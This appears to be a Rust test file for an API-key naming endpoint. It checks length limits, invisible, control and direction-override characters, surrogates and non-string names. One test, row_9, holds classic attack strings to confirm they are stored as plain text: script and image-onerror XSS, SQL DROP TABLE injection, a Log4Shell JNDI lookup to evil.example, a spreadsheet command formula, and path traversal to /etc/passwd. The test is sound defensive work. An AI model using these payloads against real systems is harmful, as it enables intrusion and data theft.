//! Names of keys: `POST /api/v1/api-keys`, rows 1 to 11 and 16.

use serde_json::json;

use crate::person::{ADA, Person};
use crate::server::Setup;

on_both_databases![row_1_a_name_is_kept_as_sent, row_9_hostile_text_is_kept_as_text,];

on_sqlite![
    row_2_a_hundred_scalar_values_of_any_width_are_accepted,
    row_10_equal_and_look_alike_names_are_distinct_keys,
];

const FAMILY: &str = "👨\u{200D}👩\u{200D}👧\u{200D}👦";

fn accepted(person: &Person, name: &str) {
    let answer = person.create(json!({ "name": name }).to_string()).expect_status(201);
    assert_eq!(answer.json()["name"], name);
    assert_eq!(person.list()[0]["name"], name);
}

fn refused(person: &Person, name: &str) {
    let body = json!({ "name": name }).to_string();
    let answer = person.create(&body);
    assert_eq!(answer.status, 400, "{body}");
    answer.expect_error(400);
}

/// Signs somebody up, has all of `good` accepted and all of `bad` refused, and nothing else kept.
fn judge(setup: Setup, good: &[&str], bad: &[&str]) {
    let server = setup.start();
    let ada = server.sign_up(ADA);
    for name in good {
        accepted(&ada, name);
    }
    for name in bad {
        refused(&ada, name);
    }
    assert_eq!(ada.list().len(), good.len());
}

fn row_1_a_name_is_kept_as_sent(setup: Setup) {
    judge(setup, &["a", " x ", "Production", "two  blanks"], &[]);
}

fn row_2_a_hundred_scalar_values_of_any_width_are_accepted(setup: Setup) {
    let names = ["a", "\u{1F600}", "鍵"].map(|unit| unit.repeat(100));
    let combining = "e\u{301}".repeat(50);
    judge(setup, &[&*names[0], &names[1], &names[2], &combining], &[]);
}

#[test]
fn row_3_a_hundred_and_one_are_refused() {
    let names = ["a", "\u{1F600}", "鍵"].map(|unit| unit.repeat(101));
    let combining = "e\u{301}".repeat(50) + "e";
    judge(Setup::on_sqlite(), &[], &[&*names[0], &names[1], &names[2], &combining]);
}

#[test]
fn row_4_a_joined_emoji_counts_its_scalar_values() {
    judge(Setup::on_sqlite(), &[FAMILY], &[&*FAMILY.repeat(100)]);
}

#[test]
fn row_5_a_name_with_nothing_visible_is_refused() {
    let blanks = ["", " ", "   ", "\t", "\u{A0}", "\u{3000}", " \u{A0}\u{3000}"];
    let formats = [
        "\u{200B}",
        "\u{2060}",
        "\u{200B} \u{2060}",
        "\u{3164}",
        "\u{115F}",
        "\u{FFA0}",
        "\u{2800}",
        "\u{301}",
        " \u{301}",
        "\u{FE0F}",
        "\u{E0020}",
        "\u{34F}",
    ];
    judge(Setup::on_sqlite(), &[], &[&blanks[..], &formats].concat());
}

#[test]
fn row_6_nul_is_refused() {
    judge(Setup::on_sqlite(), &[], &["\0", "a\0b", "a\0"]);
}

#[test]
fn row_7_control_characters_and_line_separators_are_refused() {
    let bad = ["\r", "\n", "\u{1B}[31m", "\u{7F}", "\u{85}", "\u{2028}", "\u{2029}", "\t"];
    let inside = bad.map(|bad| format!("a{bad}b"));
    judge(Setup::on_sqlite(), &[], &inside.each_ref().map(|name| &**name));
}

#[test]
fn row_8_direction_overrides_are_refused_and_right_to_left_text_is_not() {
    let controls = "\u{61C}\u{200E}\u{200F}\u{202A}\u{202B}\u{202C}\u{202D}\u{202E}\u{2066}\u{2067}\
                    \u{2068}\u{2069}";
    let bad: Vec<_> = controls.chars().map(|bad| format!("a{bad}b")).collect();
    let bad: Vec<_> = bad.iter().map(|name| &**name).collect();
    judge(Setup::on_sqlite(), &["مفتاح الإنتاج", "מפתח", FAMILY], &bad);
}

#[test]
fn hidden_characters_are_refused_but_joiners_where_script_or_emoji_need_them() {
    let good = ["می\u{200C}خواهم", "क्\u{200D}ष", FAMILY, "⚙\u{FE0F} CI"];
    let bad = [
        "a\u{200B}b",
        "a\u{200C}b",
        "a\u{200D}b",
        "a\u{2060}",
        "a\u{AD}b",
        "a\u{3164}",
        "a\u{E0041}",
    ];
    judge(Setup::on_sqlite(), &good, &bad);
}

#[test]
fn a_name_that_holds_a_key_is_refused() {
    let server = Setup::on_sqlite().start();
    let ada = server.sign_up(ADA);
    let key = ada.create_key("a");
    for holds in [key.key.clone(), format!("old {}", key.key)] {
        for answer in [
            ada.create(json!({ "name": holds }).to_string()),
            ada.change(&key.id, &json!({ "name": holds })),
        ] {
            let answer = answer.expect_refusal(400, "invalid_request");
            assert!(!answer.text().contains(&key.key), "{answer:#?}");
        }
    }
    assert_eq!(ada.names(), ["a"]);
    accepted(&ada, &key.key[..12]);
}

fn row_9_hostile_text_is_kept_as_text(setup: Setup) {
    let hostile = [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "{{7*7}}",
        "'; DROP TABLE api_keys; --",
        "%s%n%x",
        "${jndi:ldap://evil.example/a}",
        "=cmd|' /C calc'!A0",
        "../../etc/passwd",
        "\\u0000",
    ];
    judge(setup, &hostile, &[]);
}

fn row_10_equal_and_look_alike_names_are_distinct_keys(setup: Setup) {
    let server = setup.start();
    let ada = server.sign_up(ADA);
    let names = ["é", "e\u{301}", "é", "same", "same", "same"];
    let ids: std::collections::BTreeSet<_> =
        names.iter().map(|name| ada.create_key(name).id).collect();
    assert_eq!(ids.len(), names.len());
    let newest_first: Vec<_> = names.into_iter().rev().collect();
    assert_eq!(ada.names(), newest_first);
}

#[test]
fn row_11_a_lone_surrogate_is_refused_and_a_pair_accepted() {
    let server = Setup::on_sqlite().start();
    let ada = server.sign_up(ADA);
    for lone in [r#"{"name":"\ud800"}"#, r#"{"name":"\udc00x"}"#, r#"{"name":"\ude00\ud83d"}"#] {
        ada.create(lone).expect_error(400);
    }
    let pair = ada.create(r#"{"name":"\ud83d\ude00"}"#).expect_status(201);
    assert_eq!(pair.json()["name"], "\u{1F600}");
}

#[test]
fn row_16_a_name_that_is_no_string_is_refused() {
    let server = Setup::on_sqlite().start();
    let ada = server.sign_up(ADA);
    for bad in [json!(null), json!(true), json!(1), json!({}), json!([]), json!(["a"])] {
        ada.create(json!({ "name": bad }).to_string()).expect_error(400);
    }
    for bad in [r#"{"name":1e400}"#, "{}", r#"{"Name":"a"}"#, r#"{"NAME":"a"}"#] {
        ada.create(bad).expect_error(400);
    }
    assert_eq!(ada.list().len(), 0);
}

#[test]
fn byte_order_mark_and_noncharacters_are_refused() {
    judge(
        Setup::on_sqlite(),
        &["\u{FFFD}"],
        &["\u{FEFF}a", "a\u{FDD0}", "a\u{FFFE}", "a\u{1FFFF}", "a\u{10FFFF}"],
    );
}
